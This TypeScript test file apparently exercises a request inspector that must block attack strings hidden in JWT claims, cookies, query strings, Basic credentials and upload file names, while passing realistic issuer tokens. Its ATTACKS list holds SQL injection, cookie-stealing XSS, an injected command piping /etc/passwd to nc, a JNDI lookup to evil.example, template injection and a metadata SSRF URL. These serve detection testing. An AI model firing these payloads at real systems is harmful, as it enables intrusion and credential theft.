import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { inspect } from '../src/inspect.ts'

const coded = (document: unknown): string => Buffer.from(JSON.stringify(document)).toString('base64url')
const SIGNATURE = 'c2lnbmF0dXJlLXNpZ25hdHVyZS1zaWduYXR1cmU'

function token(header: object, claims: object): string {
  return `${coded({ alg: 'RS256', typ: 'JWT', ...header })}.${coded(claims)}.${SIGNATURE}`
}

function refused(headers: readonly string[], target = '/x'): readonly string[] {
  const found = inspect({ method: 'GET', target, headers })
  return found.verdict === 'pass' ? [] : found.matches.map(match => `${match.rule} ${match.location}`)
}

/** Where clients send a token. */
const PLACES: Readonly<Record<string, (sent: string) => readonly string[]>> = {
  bearer: sent => refused(['Authorization', `Bearer ${sent}`]),
  'any case': sent => refused(['authorization', `bearer ${sent}`]),
  dpop: sent => refused(['Authorization', `DPoP ${sent}`, 'DPoP', sent]),
  alone: sent => refused(['X-Access-Token', sent]),
  cookie: sent => refused(['Cookie', `theme=dark; session=${sent}; a=b`]),
  query: sent => refused([], `/x?assertion=${sent}`),
}

const ATTACKS = [
  "1' UNION SELECT username,password FROM users-- -",
  '<script>alert(document.cookie)</script>',
  '; cat /etc/passwd | nc 10.1.1.1 99',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}{{config.items()}}',
  'http://169.254.169.254/latest/meta-data/iam/',
]

describe('what a JSON Web Token says', () => {
  for (const [place, send] of Object.entries(PLACES)) {
    test(`an attack in its header or its claims is found: ${place}`, () => {
      for (const attack of ATTACKS) {
        assert.notDeepEqual(send(token({ kid: attack }, { sub: '1' })), [], `kid ${attack}`)
        assert.notDeepEqual(send(token({}, { tenant: { name: attack } })), [], `claim ${attack}`)
      }
    })

    test(`tokens of usual issuers pass, the first time and every time: ${place}`, () => {
      for (const [name, honest] of Object.entries(HONEST))
        for (let time = 0; time < 3; time++) assert.deepEqual(send(honest), [], `${name} ${time}`)
    })
  }

  test('a token like one that was clean is looked at', () => {
    const clean = token({}, { sub: 'ann', name: 'Ann Example' })
    const claims = coded({ sub: 'ann', name: "Ann' UNION SELECT password FROM users-- -" })
    const parts = clean.split('.')
    for (let time = 0; time < 3; time++) {
      assert.deepEqual(refused(['Authorization', `Bearer ${clean}`]), [])
      assert.deepEqual(refused(['Cookie', `a=${clean}`]), [])
      const forged = [parts[0], claims, parts[2]].join('.')
      assert.notDeepEqual(refused(['Authorization', `Bearer ${forged}`]), [])
      assert.notDeepEqual(refused(['Cookie', `a=${clean}; b=${forged}`]), [])
    }
  })

  test('the match names the claim', () => {
    const sent = token({}, { user: { name: "1' UNION SELECT username,password FROM users-- -" } })
    const names = refused(['Authorization', `Bearer ${sent}`]).map(match => match.split(' ')[1])
    assert.ok(names.includes('header.authorization.1.user.name'), names.join(' '))
  })

  test('claims that are cut, or no JSON, are read as far as they go', () => {
    const claims = Buffer.from(`{"a":"1","sub":"1' UNION SELECT password FROM users-- -","b":`)
    const header = coded({ alg: 'HS256' })
    for (const send of Object.values(PLACES))
      assert.notDeepEqual(send(`${header}.${claims.toString('base64url')}.${SIGNATURE}`), [])
  })

  test('a long token with an attack at its end', () => {
    const claims = { list: Array.from({ length: 900 }, (_, i) => `role-${i}`), sub: ATTACKS[0] }
    assert.notDeepEqual(refused(['Authorization', `Bearer ${token({}, claims)}`]), [])
  })
})

test('a file that is called like a token is judged by its name', () => {
  for (const ending of ['php', 'jsp', 'phtml', 'aspx']) {
    const name = `${coded({ alg: 'HS256' })}.x.${ending}`
    const put = { method: 'POST', target: '/u', headers: ['X-File-Name', name, 'Content-Type', 'image/png'] }
    for (let time = 0; time < 3; time++) {
      assert.equal(inspect({ ...put, body: Buffer.from('x') }).verdict, 'block', name)
      const part = `--b\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\nContent-Type: image/png\r\n\r\nx\r\n--b--\r\n`
      const headers = ['Content-Type', 'multipart/form-data; boundary=b', 'Authorization', `Bearer ${name}`]
      const body = Buffer.from(part)
      assert.equal(inspect({ method: 'POST', target: '/u', headers, body }).verdict, 'block', name)
    }
  }
})

test('several new tokens in one request, of which the last attacks', () => {
  for (let time = 0; time < 3; time++) {
    const others = ['a', 'b', 'c'].map(name => `${name}=${token({}, { sub: `${name}${time}` })}`)
    const last = token({}, { sub: ATTACKS[0], time })
    assert.deepEqual(refused(['Cookie', others.join('; ')]), [])
    assert.notDeepEqual(refused(['Cookie', [...others, `d=${last}`].join('; ')]), [])
    assert.notDeepEqual(refused(['Cookie', others.join('; '), 'Authorization', `Bearer ${last}`]), [])
  }
})

describe('Basic credentials', () => {
  const basic = (text: string): readonly string[] =>
    refused(['Authorization', `Basic ${Buffer.from(text).toString('base64')}`])

  test('what chance does not make is found in a password too', () => {
    for (const attack of ['${jndi:ldap://evil.example/a}', '<script>alert(document.cookie)</script>'])
      assert.notDeepEqual(basic(`bob:${attack}`), [], attack)
    assert.notDeepEqual(basic("x' UNION SELECT username,password FROM users-- -:y"), [])
  })

  test('strong passwords pass', () => {
    for (const honest of ["bob:a'b--c;d|e&f", 'bob:$(x)`y`<z>', 'bob:%{a}#{b}', 'bob:', 'bob', 'bob:a:b:c'])
      assert.deepEqual(basic(honest), [], honest)
  })
})

const TIMES = { iat: 1_790_000_000, exp: 1_790_003_600, nbf: 1_790_000_000 }

const HONEST: Readonly<Record<string, string>> = {
  auth0: token(
    { kid: 'NjVBRjY5MDlCMUIwNzU4RTA2QzZFMDQ4QzQ2MDAyQjVDNjk1RTM2Qg' },
    {
      iss: 'https://shop.eu.auth0.example/',
      sub: 'auth0|5f7c8ec7c33c6c004bbafe82',
      aud: ['https://api.shop.example/', 'https://shop.eu.auth0.example/userinfo'],
      ...TIMES,
      azp: 'my_client_id',
      scope: 'openid profile email offline_access read:orders delete:orders',
      permissions: ['read:orders', 'delete:orders', 'update:users'],
      'https://shop.example/roles': ['admin'],
    },
  ),
  google: token(
    { kid: '1e9gdk7' },
    {
      iss: 'https://accounts.google.com',
      azp: '1234987819200.apps.googleusercontent.com',
      sub: '10769150350006150715113082367',
      at_hash: 'HK6E_P6Dh8Y93mRNtsDB1Q',
      email: "maire.o'connor@example.com",
      email_verified: true,
      name: "Máire O'Connor",
      picture: 'https://lh3.googleusercontent.com/a-/AOh14Gg=s96-c',
      ...TIMES,
    },
  ),
  'keycloak in development': token(
    { kid: 'FJ86GcF3jTbNLOco4NvZkUCIUmfYCqoqtOQeMfbhNlE' },
    {
      ...TIMES,
      jti: 'e6b5e8d0-6a2c-4cf9-a2a5-9d2e5b7d0a44',
      iss: 'http://localhost:8080/realms/shop',
      aud: 'account',
      typ: 'Bearer',
      'allowed-origins': ['http://localhost:3000', 'http://127.0.0.1:5173', '/*', '*'],
      realm_access: { roles: ['default-roles-shop', 'offline_access', 'uma_authorization'] },
      resource_access: { account: { roles: ['manage-account', 'view-profile'] } },
      scope: 'email profile',
      preferred_username: 'anna.müller',
    },
  ),
  entra: token(
    { x5t: 'SsZsBNhZcF3Q9S4trpQBTByNRRI', kid: 'SsZsBNhZcF3Q9S4trpQBTByNRRI' },
    {
      aud: 'api://ef1da9d4-ff77-4c3e-a005-840c3f830745',
      iss: 'https://sts.windows.net/fa15d692-e9c7-4460-a743-29f29522229/',
      ...TIMES,
      acr: '1',
      aio: 'AXQAi/8IAAAAFm+E/QTG+gFnVxLjWdw8K+61AGrSOuMMF6ebaMj7XO3IbmD3fGmrOyD+NvZyGn2VaT/kDKXw4MIhrgGVq6Bn8wLXoT1LkIZ+FzQVkJPPLQOV4KcXqSlCVPDS/DiCDgE222TImMvWNaEMaUOTsIGvTQ==',
      amr: ['pwd', 'mfa'],
      name: 'Abe Lincoln (Contractor)',
      upn: 'abe@contoso.example',
      unique_name: 'live.com#abe@contoso.example',
      groups: ['0e129f6b-6b0a-4944-982d-f776000632af'],
      wids: ['62e90394-69f5-4237-9190-012177145e10'],
      ver: '1.0',
    },
  ),
  cognito: token(
    { kid: '1234example=' },
    {
      sub: 'aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee',
      'cognito:groups': ['test-group'],
      'cognito:roles': ['arn:aws:iam::111122223333:role/my-test-role'],
      iss: 'https://cognito-idp.us-west-2.amazonaws.com/us-west-2_example',
      'custom:address': "12, rue de l'Église; bât. C & D",
      phone_number: '+15555550100',
      ...TIMES,
    },
  ),
  kubernetes: token(
    { kid: 'Nwl5xv3yCyPnDdVsTsNK' },
    {
      aud: ['https://kubernetes.default.svc.cluster.local'],
      iss: 'https://kubernetes.default.svc.cluster.local',
      'kubernetes.io': {
        namespace: 'default',
        pod: { name: 'web-5f7c', uid: '4f4b' },
        serviceaccount: { name: 'default', uid: '1a' },
      },
      sub: 'system:serviceaccount:default:default',
      ...TIMES,
    },
  ),
  supabase: token(
    { kid: 'oYV3gk1' },
    {
      iss: 'https://abcdefgh.supabase.example/auth/v1',
      aud: 'authenticated',
      email: 'bob+test@example.com',
      app_metadata: { provider: 'email', providers: ['email'] },
      user_metadata: { full_name: 'Bob "The Builder" <bob@example.com>', bio: 'I drop tables & select wine' },
      role: 'authenticated',
      aal: 'aal1',
      amr: [{ method: 'password', timestamp: 1_790_000_000 }],
      ...TIMES,
    },
  ),
  'proof of possession': `${coded({ typ: 'dpop+jwt', alg: 'ES256', jwk: { kty: 'EC', x: 'l8tFrhx-34tV3hRICRDY9zCkDlpBhF42UQUfWVAWBFs', y: '9VE4jf_Ok_o64zbTTlcuNJajHmt6v9TDVrU0CdvGRDA', crv: 'P-256' } })}.${coded({ jti: '-BwC3ESc6acc2lTc', htm: 'POST', htu: 'http://localhost:3000/token', iat: 1_790_000_000 })}.${SIGNATURE}`,
  encrypted: `${coded({ alg: 'RSA-OAEP-256', enc: 'A256GCM', kid: 'a' })}.${SIGNATURE}.48V1_ALb6US04U3b.5eym8TW_c8SuK0ltJ3rpYIzOeDQz7TALvtu6UG9oMo4vpzs9tX_EFShS8iB7j6ji.XFBoMYUZodetZdvTiFvSkQ`,
}
